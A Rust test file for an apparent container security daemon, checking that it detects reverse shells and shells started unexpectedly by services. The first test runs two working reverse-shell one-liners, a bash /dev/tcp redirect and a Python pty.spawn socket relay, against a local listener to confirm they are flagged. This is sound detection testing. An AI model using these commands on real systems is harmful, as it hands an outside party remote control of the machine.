//! Reverse shells of a real image: bash's `/dev/tcp` redirect and Python's `pty.spawn` relay.

use super::*;
use crate::common::net::{host_ip, serve_once};

/// `bash -i >& /dev/tcp/HOST/PORT 0>&1` is a reverse shell on the image's bash, its streams on
/// the connection; Python's `pty.spawn("/bin/sh")` with its own streams on a connection is one
/// behind a relay (the shell's streams are a terminal; its parent holds the connection), and
/// also an unexpected child shell (Python started it). Both run: audited.
#[test]
fn bash_dev_tcp_and_a_python_pty_relay_are_reverse_shells() {
    if !privileged() {
        return;
    }
    let ip = host_ip();
    let c = DebianContainer::new(false);
    let d = c.daemon("enforce", "[findings]\naggregate_window_secs = 0\n");
    let (a, b) =
        (std::net::TcpListener::bind((ip, 0)).unwrap(), std::net::TcpListener::bind((ip, 0)).unwrap());
    let (pa, pb) = (a.local_addr().unwrap().port(), b.local_addr().unwrap().port());
    let a = serve_once(a, "echo rs=$((6*7))\nexit\n");
    let b = serve_once(b, "echo py=$((6*7))\nexit\n");
    // Pseudo-terminals, as runtimes give containers: a devpts instance of its own.
    let devpts = "mkdir \"$M/dev/pts\"\nmount -t devpts -o newinstance,ptmxmode=0666 devpts \"$M/dev/pts\"\n\
                  ln -s pts/ptmx \"$M/dev/ptmx\"";
    let out = c.run_with(devpts, &format!(
        "bash -c 'bash -i >& /dev/tcp/{ip}/{pa} 0>&1'; echo bash=$?\n\
         python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"{ip}\",{pb}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'; echo python=$?\n"
    ));
    let (a, b) = (a.join().unwrap(), b.join().unwrap());
    assert_eq!((results(&out)["bash"], results(&out)["python"]), (0, 0), "{out:?} {a:?} {b:?}");
    assert!(a.contains("rs=42"), "bash ran: {a:?}");
    assert!(b.contains("py=42"), "the relayed shell ran: {b:?}");
    d.findings(3);
    std::thread::sleep(Duration::from_millis(500));
    let all = read_findings(&d.spool);
    let shells: Vec<&serde_json::Value> = all.iter().filter(|f| f["category"] == "REVERSE_SHELL").collect();
    assert_eq!(shells.len(), 2, "{all:#?}");
    let bash = shells.iter().find(|f| f["file"]["path"] == "/usr/bin/bash").expect("bash's");
    assert_eq!(bash["network"]["remote_port"], pa, "{bash:#}");
    assert!(bash["network"]["fds"].as_array().unwrap().contains(&serde_json::json!(0)), "{bash:#}");
    assert_eq!(bash["action"], "audited");
    let relayed = shells.iter().find(|f| f["file"]["path"] == "/usr/bin/dash").expect("the relayed shell's");
    assert_eq!(relayed["network"]["remote_port"], pb, "{relayed:#}");
    assert_eq!(relayed["network"]["remote_address"], ip.to_string());
    assert_eq!(relayed["network"]["relay_pid"], relayed["process"]["ppid"], "{relayed:#}");
    assert!(relayed["network"]["fds"].as_array().unwrap().is_empty());
    let child = all.iter().find(|f| f["category"] == "UNEXPECTED_CHILD_SHELL").expect("python's shell");
    assert!(child["process"]["parent"]["exe"].as_str().unwrap().contains("python3"), "{child:#}");
    assert_eq!(all.len(), 3, "nothing else: {all:#?}");
}

/// A service that starts a shell through a launcher that execs it in its own place (`env sh`)
/// is still the shell's parent: an unexpected child shell. A shell that a script's shell
/// starts, directly or through `env`, is not.
#[test]
fn a_shell_a_service_starts_through_env_is_unexpected_and_one_from_a_script_is_not() {
    if !privileged() {
        return;
    }
    let c = DebianContainer::new(false);
    let d = c.daemon("enforce", "[findings]\naggregate_window_secs = 0\n");
    let out = c.run(
        "python3 -c 'import subprocess; subprocess.run([\"env\", \"sh\", \"-c\", \"echo viaenv=1\"])'\n\
         env sh -c 'echo fromshell=1'\nbash -c 'sh -c \"echo nested=1\"'\n",
    );
    let r = results(&out);
    assert_eq!((r["viaenv"], r["fromshell"], r["nested"]), (1, 1, 1), "{out:?}");
    d.findings(1);
    std::thread::sleep(Duration::from_millis(500));
    let all = read_findings(&d.spool);
    assert_eq!(all.len(), 1, "only the service's shell: {all:#?}");
    let f = &all[0];
    assert_eq!(
        (f["category"].as_str(), f["action"].as_str()),
        (Some("UNEXPECTED_CHILD_SHELL"), Some("audited"))
    );
    assert!(f["process"]["parent"]["exe"].as_str().unwrap().contains("python3"), "{f:#}");
    assert_eq!(f["file"]["path"], "/usr/bin/dash", "{f:#}");
}
